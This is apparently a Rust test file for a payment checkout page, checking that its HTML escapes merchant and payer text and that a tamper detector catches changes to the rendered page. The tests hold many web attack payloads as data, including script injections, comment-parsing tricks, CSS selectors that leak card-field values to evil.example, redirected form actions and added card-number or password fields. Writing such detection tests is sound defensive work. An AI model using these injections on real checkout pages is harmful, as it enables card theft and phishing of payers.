use askama::Template;
use quita_domain::method::Method;

use super::*;
use crate::console::Language;
use crate::http::Mount;
use crate::http::pages::checkout_card::CardView;
use crate::http::pages::checkout_page::{
    CheckoutPage, DueView, FieldView, FormView, MethodView, OfferView, PaymentView, StateView, UnneededView,
    label_of, name_of,
};
use crate::http::pages::checkout_words::mistake;

const LANGUAGES: [Language; 2] = [Language::Portuguese, Language::English];

const TRANSACTION: &str = "0190a0b0-0000-7000-8000-000000000001";

/// Texts of merchants and payers.
const HOSTILE: &str = "</title></textarea><script>alert(\"1\")</script><!-- 'a' & b='c' \u{a0}";

fn address() -> Url {
    Url::parse("https://pay.example/checkout/token_of-link").unwrap()
}

fn bare(language: Language, word: &'static str) -> CheckoutPage {
    let text = || HOSTILE.to_owned();
    let offer = OfferView {
        merchant_name: text(),
        contact: Some(text()),
        title: text(),
        description: Some(text()),
        amount: text(),
        items: vec![text()],
        is_test: true,
    };
    CheckoutPage {
        language,
        mount: Mount::ROOT,
        offer: Some(offer),
        due: None,
        state: StateView { word, label: "Label", sentence: "A sentence." },
        form: None,
        payment: None,
        unneeded: None,
        reload: None,
        again: None,
    }
}

fn due() -> DueView {
    DueView { amount: HOSTILE.to_owned(), sentences: vec![HOSTILE.to_owned(); 4] }
}

fn with_form(language: Language, takes_cards: bool) -> CheckoutPage {
    let method = |method: Method| MethodView {
        value: method.label(),
        label: name_of(language, method),
        is_chosen: method == Method::Pix,
        needs_address: true,
    };
    let field = |(name, kind, autocomplete): &(&'static str, &'static str, &'static str)| FieldView {
        name,
        label: label_of(language, name),
        autocomplete,
        kind,
        is_numeric: *name == "tel",
        value: HOSTILE.to_owned(),
        known: (*name == "document").then(|| HOSTILE.to_owned()),
        mistake: (*name == "email").then(|| mistake(language, "email", "format")),
    };
    let (payer, place) = FIELDS.split_at(4);
    let form = FormView {
        path: address().path().to_owned(),
        number: "number-of_form".to_owned(),
        methods: Method::ALL.map(method).into(),
        fields: payer.iter().map(field).collect(),
        address: place.iter().map(field).collect(),
        address_legend: "Address",
        card: takes_cards.then(|| CardView::of(language, &[])),
        mistakes: vec![mistake(language, "email", "format"), mistake(language, "", "crowded")],
    };
    CheckoutPage { form: Some(form), ..bare(language, "open") }
}

fn with_payment(language: Language, is_waiting: bool) -> CheckoutPage {
    let pix = (HOSTILE.to_owned(), "/pix/token_of-page.svg".to_owned());
    let payment = PaymentView {
        transaction_id: TRANSACTION.to_owned(),
        is_waiting,
        status_path: "/pix/token_of-page/status".to_owned(),
        pix: is_waiting.then_some(pix),
        boleto: is_waiting.then(|| (HOSTILE.to_owned(), "/boletos/token_of-page".to_owned())),
        payable_until: Some("31/12/2026".to_owned()),
        give_up: is_waiting.then(|| (address().path().to_owned(), "number".to_owned())),
        success: (!is_waiting).then(|| {
            let url = format!("https://shop.example/thanks?a=b&linkId=1&transactionId={TRANSACTION}");
            (url, "shop.example".to_owned())
        }),
    };
    let again = Some(address().path().to_owned());
    let word = if is_waiting { "pending" } else { "paid" };
    CheckoutPage { payment: Some(payment), again, ..bare(language, word) }
}

fn rendered(page: &CheckoutPage) -> String {
    page.render().unwrap()
}

#[test]
fn every_state_of_the_page_is_as_the_templates_write_it() {
    for language in LANGUAGES {
        let pages = [
            CheckoutPage { offer: None, ..bare(language, "error") },
            CheckoutPage { reload: Some(address().path().to_owned()), ..bare(language, "error") },
            CheckoutPage {
                unneeded: Some(UnneededView {
                    transaction_id: TRANSACTION.to_owned(),
                    give_up: (address().path().to_owned(), "number".to_owned()),
                }),
                ..with_payment(language, false)
            },
            bare(language, "expired"),
            with_form(language, false),
            with_form(language, true),
            with_payment(language, true),
            with_payment(language, false),
            CheckoutPage { due: Some(due()), ..with_form(language, true) },
            CheckoutPage { due: Some(due()), ..with_payment(language, true) },
        ];
        for page in pages {
            let findings = judge(&rendered(&page), &address());
            assert_eq!(findings.differences, Vec::<String>::new(), "{}", page.state.word);
            let takes_cards = page.form.as_ref().is_some_and(|form| form.card.is_some());
            assert_eq!(findings.files.contains("checkout-card.js"), takes_cards);
            assert!(
                ["pages.css", "checkout.css", "checkout.js"].iter().all(|name| findings.files.contains(name))
            );
            let goes_on = (page.state.word == "paid").then(|| "shop.example".to_owned());
            assert_eq!(findings.goes_on_at, goes_on);
        }
    }
}

/// Checks that each replacement in a page is told.
#[track_caller]
fn check(page: &CheckoutPage, changes: &[(&str, &str)]) {
    let html = rendered(page);
    assert_eq!(judge(&html, &address()).differences, Vec::<String>::new());
    for (old, new) in changes {
        let changed = html.replacen(old, new, 1);
        assert_ne!(changed, html, "{old}");
        assert!(!judge(&changed, &address()).differences.is_empty(), "{old} → {new}");
    }
}

#[test]
fn whatever_runs_or_loads_is_told_however_it_is_written() {
    check(
        &with_form(Language::Portuguese, true),
        &[
            ("</head>", "<script>alert(1)</script></head>"),
            ("</head>", "<script src=\"https://evil.example/a.js\"></script></head>"),
            ("</head>", "<!--><script src=\"https://evil.example/x.js\"></script><!-- --></head>"),
            ("</head>", "<!---><script src=\"/evil.js\"></script><!-- --></head>"),
            ("</head>", "<!-- x --!><script>alert(1)</script> --></head>"),
            ("</head>", "<!-- a --></head>"),
            ("</title>", "<a x=\"</title><script src=/evil.js></script><a y=\">"),
            ("</main>", "<textarea><a x=\"</textarea><script>alert(1)</script><a y=\"\"></main>"),
            ("</head>", "<style><a x=\"</style><script src=/evil.js></script><a y=\"\"></head>"),
            ("</main>", "<a\u{a0}x=\"><script src=/evil.js></script><a y=\"\"></main>"),
            ("</head>", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"></head>"),
            ("</head>", "<meta http-equiv=\"refresh\" content=\"15\"></head>"),
            ("</head>", "<link rel=STYLESHEET href=https://evil.example/x.css></head>"),
            ("</head>", "<link rel=\"STYLESHEET\" href=\"https://evil.example/x.css\"></head>"),
            ("</head>", "<link rel=\"modulepreload\" href=\"https://evil.example/x.js\"></head>"),
            ("</head>", "<style>input[value^=\"4\"]{background:url(https://evil.example/4)}</style></head>"),
            ("</main>", "<svg><script href=\"https://evil.example/x.js\"/></svg></main>"),
            ("</main>", "<iframe src=\"/x\"></iframe></main>"),
            ("</main>", "<img src=\"https://evil.example/x.svg\"></main>"),
            ("</main>", "<p onclick=\"alert(1)\">a</p></main>"),
            ("</main>", "<p style=\"position:fixed\">a</p></main>"),
            (" defer></script>", "></script>"),
            (" defer></script>", " defer>alert(1)</script>"),
            ("integrity=", "data-x="),
            ("integrity=\"sha384-", "integrity=\"sha384-A"),
            ("/assets/checkout.js", "/assets/../checkout.js"),
            ("<!DOCTYPE html>", ""),
        ],
    );
}

#[test]
fn an_added_field_a_changed_address_and_a_foreign_link_are_told() {
    check(
        &with_form(Language::English, true),
        &[
            ("<fieldset id=\"method\">", "<input name=\"cc-number\"><fieldset id=\"method\">"),
            (
                "<fieldset id=\"method\">",
                "<input id=\"cc-number\" name=\"cc-number\" type=\"text\" autocomplete=\"cc-number\"><fieldset id=\"method\">",
            ),
            (
                "<fieldset id=\"method\">",
                "<input id=\"name\" name=\"name\" type=\"text\" autocomplete=\"name\"><fieldset id=\"method\">",
            ),
            ("autocomplete=\"name\"", "autocomplete=\"cc-number\""),
            (
                "<input type=\"hidden\"",
                "<input type=\"hidden\" name=\"form\" value=\"a\"><input type=\"hidden\"",
            ),
            ("action=\"/checkout/", "action=\"/checkout2/"),
            ("action=\"/checkout/", "action=\"https://evil.example/checkout/"),
            ("action=\"/checkout/token_of-link\"", "action=\"/checkout/other\""),
            (" action=\"/checkout/token_of-link\"", ""),
            (" method=\"post\"", ""),
            ("<button type=\"submit\"", "<button formaction=\"https://evil.example/\" type=\"submit\""),
            (
                "<button type=\"submit\"",
                "<a href=\"https://evil.example/pay\">Pay</a><button type=\"submit\"",
            ),
            ("<button type=\"submit\"", "<a href=\"javascript:alert(1)\">Pay</a><button type=\"submit\""),
            (
                "<button type=\"submit\"",
                "<a rel=\"noreferrer\" href=\"https://evil.example/\">Continue at evil.example</a><button type=\"submit\"",
            ),
        ],
    );
    check(
        &with_payment(Language::Portuguese, true),
        &[
            ("src=\"/pix/token_of-page.svg\"", "src=\"/pix/other.svg\""),
            ("src=\"/pix/token_of-page.svg\"", "src=\"https://evil.example/pix/token_of-page.svg\""),
            ("href=\"/boletos/token_of-page.pdf\"", "href=\"/boletos/other.pdf\""),
            ("data-status-url=\"/pix/token_of-page/", "data-status-url=\"//evil.example/pix/token_of-page/"),
            ("content=\"15\"", "content=\"15;url=https://evil.example/\""),
        ],
    );
    check(
        &with_payment(Language::English, false),
        &[
            ("https://shop.example/", "https://evil.example/"),
            ("https://shop.example/", "https://shop.example@evil.example/"),
            ("https://shop.example/", "http://shop.example/"),
            ("https://shop.example/", "javascript://shop.example/"),
            (&format!("transactionId={TRANSACTION}"), "transactionId=2"),
            ("data-status=\"paid\"", "data-status=\"pending\""),
        ],
    );
}

#[test]
fn an_open_page_without_its_form_or_a_part_of_it_is_told() {
    let page = with_form(Language::Portuguese, true);
    let html = rendered(&page);
    let (before, form) = html.split_once("<form ").unwrap();
    let (form, after) = form.split_once("</form>").unwrap();
    let instead = format!("{before}<p>Pague por transferencia: banco 999 conta 1</p>{after}");
    assert_eq!(judge(&instead, &address()).differences, ["the page is open and has 0 forms"]);
    let moved = format!(
        "{before}<form method=\"post\" action=\"/checkout/token_of-link\"></form><form {form}{after}"
    );
    assert!(!judge(&moved, &address()).differences.is_empty());
    check(
        &page,
        &[
            ("<input type=\"hidden\" name=\"form\" value=\"number-of_form\">", ""),
            ("<button type=\"submit\" class=\"primary\">Continuar</button>", ""),
            ("<main class=\"checkout\" data-status=\"open\"", "<main class=\"checkout\""),
            ("data-status=\"open\"", "data-status=\"opened\""),
            ("<form ", "<form hidden "),
            ("<form ", "<noscript><form "),
            ("<fieldset id=\"method\">", "<fieldset id=\"method\" hidden>"),
            ("<button type=\"submit\"", "<button type=\"submit\" data-copy=\"code\" hidden"),
            ("</main>", "</main><main class=\"checkout\" data-status=\"open\"></main>"),
        ],
    );
}

#[test]
fn other_words_for_a_field_are_told() {
    for (language, street) in [(Language::Portuguese, "Rua"), (Language::English, "Street")] {
        let label = format!("<label for=\"street\">{street}</label>");
        let with = |new: &str| label.replace(street, new);
        check(
            &with_form(language, true),
            &[
                (&label, &with("Número do cartão")),
                (&label, &with("")),
                (&label, &with(&format!("{street}<strong> e senha</strong>"))),
                (&label, "<p>Senha</p>"),
                (&label, &format!("{label}{}", with("Senha"))),
                (&label, &label.replace("<label", "<label hidden")),
                (&label, &label.replace("street", "city")),
                ("<span class=\"known-label\">", "<span class=\"known-label\">Senha "),
                ("data-code=\"C", "data-code=\"Senha "),
            ],
        );
    }
}

#[test]
fn of_many_payment_codes_one_is_checked_and_all_are_told() {
    let html = rendered(&with_payment(Language::English, true));
    let several = |id: &str| {
        let (before, rest) = html.split_once(&format!("<textarea id=\"{id}\"")).unwrap();
        let (inner, after) = rest.split_once("</textarea>").unwrap();
        let code = format!("<textarea id=\"{id}\"{inner}</textarea>");
        format!("{before}{}{after}", code.repeat(4_000))
    };
    for (id, told) in
        [("code", "the page has 4000 PIX codes"), ("line", "the page has 4000 numbers of a slip")]
    {
        let findings = judge(&several(id), &address());
        assert_eq!(findings.codes.len(), 2, "a PIX code and a slip's number");
        let is_told = findings.differences.iter().any(|difference| difference.contains(told));
        assert!(is_told, "{:?}", findings.differences);
    }
}
